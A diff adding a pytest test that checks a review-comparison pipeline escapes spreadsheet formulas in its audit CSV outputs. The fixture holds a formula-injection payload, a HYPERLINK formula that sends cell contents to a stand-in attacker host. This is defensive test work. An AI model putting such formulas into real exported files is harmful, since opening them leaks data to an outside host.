@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import math
 from collections.abc import Mapping, Sequence
+from pathlib import Path
 from typing import Any
 
+import pandas as pd
 import pytest
 
 from experiments import issues
@@ -36,3 +38,33 @@ def test_an_unscored_matching_call_leaves_the_review_out_and_is_counted(monkeypa
     ratios, _, _ = issues.score_paper(CFG, None, None, {}, None, ["h0", "h1"], ["e0", "e1"])
     assert ratios["n_unscored"] == 1
     assert all(math.isnan(ratios[k]) for k in ("overlap", "human_only", "model_only"))
+
+
+def test_model_written_statements_reach_the_audit_csvs_as_text(monkeypatch: pytest.MonkeyPatch,
+                                                               tmp_path: Path) -> None:
+    """Review 7, F4: an extracted weakness that starts like a spreadsheet formula is written with a leading quote
+    (weaknesses.csv, matches.csv), so opening the audit files runs nothing; the counts stay numbers."""
+    import types
+
+    from experiments import inputs, judges
+    from experiments.instances import Candidate, Instance
+
+    ref = Candidate("h", "reference", "human review")
+    insts = [Instance("p1", "cs", (), ref, (Candidate("m", "gen", "model review"),))]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    monkeypatch.setattr(inputs, "load_study_inputs", lambda cfg, with_mode=False: (None, insts, None))
+    monkeypatch.setattr(judges, "make_judge", lambda cfg: types.SimpleNamespace(
+        cache=types.SimpleNamespace(close=lambda: None)))
+    monkeypatch.setattr(judges, "sampling_params", lambda cfg: {})
+
+    async def extract(judge: Any, reviews: Any, params: Any) -> list[list[str]]:
+        return [["No baseline."], [formula, "Weak evaluation."]]
+
+    monkeypatch.setattr(issues, "extract_all", extract)
+    monkeypatch.setattr(issues, "judge_decisions", fake_verdicts({}))
+    issues.run_issues({"matcher": "judge", "judge": {"structured_output": False}}, tmp_path)
+    weaknesses = pd.read_csv(tmp_path / "weaknesses.csv")
+    assert "'" + formula in set(weaknesses["issue"]) and formula not in set(weaknesses["issue"])
+    matches = pd.read_csv(tmp_path / "matches.csv")
+    assert "'" + formula in set(matches["model_issue"])
+    assert pd.api.types.is_numeric_dtype(pd.read_csv(tmp_path / "overlap_per_paper.csv")["n_human"])
